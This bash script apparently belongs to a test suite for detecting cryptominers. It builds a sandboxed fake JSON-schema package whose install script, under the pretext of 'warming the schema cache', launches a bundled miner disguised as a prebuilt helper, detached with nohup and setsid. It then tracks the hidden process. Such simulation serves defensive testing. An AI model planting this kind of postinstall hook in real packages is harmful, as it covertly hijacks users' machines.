#!/usr/bin/env bash
# supply-chain.sh — the poisoned-dependency scenario: a small, otherwise
# benign source package (configure + make-like build + install script) is
# generated in the sandbox, packed as a tarball and installed into a sandbox
# prefix.  Its postinstall hook starts the bundled "prebuilt helper" (the
# miner) in the background, detached from the installer with setsid/nohup,
# and the installer exits normally.  The launcher then waits out the window.
set -euo pipefail
# shellcheck source-path=SCRIPTDIR source=minerlib.sh
. "$(dirname "${BASH_SOURCE[0]}")/minerlib.sh"

PKG=fast-json-schema-1.4.2
HELPER=prebuilds/linux-x64/schema-compiler-helper

ml_check() {
    ml_check_miner
    command -v tar >/dev/null || ml_skip "tar not installed"
    command -v setsid >/dev/null || ml_skip "setsid (util-linux) not installed"
}

# Generates the package source tree in $1.
make_package() {
    local dir=$1
    mkdir -p "$dir/src" "$dir/$(dirname "$HELPER")"
    cp "$(ml_find_miner)" "$dir/$HELPER"
    cat >"$dir/src/schema.c" <<'C'
/* A tiny JSON-schema keyword counter: the package's visible, benign part. */
#include <stdio.h>
#include <string.h>
int main(int argc, char **argv)
{
    int n = 0;
    for (int i = 1; i < argc; i++)
        n += strstr(argv[i], "\"type\"") != NULL;
    printf("%d\n", n);
    return 0;
}
C
    cat >"$dir/configure" <<'SH'
#!/bin/sh
# configure: find a C compiler (or fall back to the prebuilt helper only).
CC=${CC:-cc}
command -v "$CC" >/dev/null 2>&1 || CC=
printf 'CC=%s\n' "$CC" >config.mk
echo "checking for a C compiler... ${CC:-none}"
SH
    cat >"$dir/build.sh" <<'SH'
#!/bin/sh
set -e
. ./config.mk
if [ -n "$CC" ]; then "$CC" -O1 -o schema-count src/schema.c; fi
echo "build ok"
SH
    # The poisoned part: postinstall launches the bundled helper detached.
    ml_miner_args "${ML_NAME:-node}"
    # shellcheck disable=SC2016  # these $VARs belong to the generated script
    {
        printf '#!/bin/sh\n# install PREFIX: copy files, then run the postinstall hook.\nset -e\n'
        printf 'PREFIX=$1\nDEST="$PREFIX/lib/%s"\nmkdir -p "$DEST" "$PREFIX/bin"\n' "$PKG"
        printf 'cp -R . "$DEST"\n'
        printf '[ -x schema-count ] && cp schema-count "$PREFIX/bin/"\n'
        printf '# postinstall: "warm the schema cache"\n'
        printf 'cd "$DEST"\nnohup setsid ./%s' "$HELPER"
        printf ' %q' "${ML_ARGS[@]}"
        printf ' </dev/null >/dev/null 2>&1 &\n'
        printf 'echo "installed %s into $PREFIX"\n' "$PKG"
    } >"$dir/install.sh"
    chmod 0755 "$dir/configure" "$dir/build.sh" "$dir/install.sh" "$dir/$HELPER"
}

# Pids of the installed helper (the hook does not report it): its exe is
# the helper, or (a wrapper script) it runs in the package dir in a session
# of its own.
find_helper_pids() {
    local want=$1 dir=$2 mysid p exe sid
    mysid=$(ps -o sid= -p $$ | tr -d ' ')
    for p in /proc/[0-9]*; do
        exe=$(readlink "$p/exe" 2>/dev/null) || continue
        if [[ $exe == "$want" ]]; then
            printf '%s\n' "${p#/proc/}"
        elif [[ $(readlink "$p/cwd" 2>/dev/null) == "$dir" ]]; then
            sid=$(ps -o sid= -p "${p#/proc/}" 2>/dev/null | tr -d ' ')
            [[ -n $sid && $sid != "$mysid" ]] && printf '%s\n' "${p#/proc/}"
        fi
    done
    return 0
}

ml_start() {
    local prefix helper_path pids=() i deadline
    ml_need_env ML_SANDBOX ML_POOL_URL ML_DURATION
    # The window counts from the launcher's start, installation included.
    deadline=$((SECONDS + ML_DURATION))
    cd "$ML_SANDBOX"
    make_package "$ML_SANDBOX/build/$PKG"
    tar -C "$ML_SANDBOX/build" -czf "$ML_SANDBOX/$PKG.tar.gz" "$PKG"
    rm -rf "$ML_SANDBOX/build"
    prefix=$ML_SANDBOX/prefix
    helper_path=$prefix/lib/$PKG/$HELPER
    # The "package manager": unpack, configure, build, install.  Its output
    # goes to stderr (stdout is reserved for ML-PID lines).
    mkdir -p "$ML_SANDBOX/unpack"
    (
        cd "$ML_SANDBOX/unpack"
        tar -xzf "../$PKG.tar.gz"
        cd "$PKG"
        ./configure && ./build.sh && ./install.sh "$prefix"
    ) >&2
    for i in $(seq 1 40); do
        mapfile -t pids < <(find_helper_pids "$helper_path" "$prefix/lib/$PKG")
        ((${#pids[@]})) && break
        sleep 0.1
        : "$i"
    done
    ((${#pids[@]})) || ml_die "the postinstall hook did not start its helper"
    ML_CHILD_PIDS+=("${pids[@]}")
    ml_announce "${pids[0]}" miner
    # The helper is not our child: poll it instead of wait(2).
    while ((SECONDS < deadline)); do
        kill -0 "${pids[0]}" 2>/dev/null || ml_die "the helper (pid ${pids[0]}) ended before the window's end"
        sleep 0.25
    done
}

ml_main "$@"
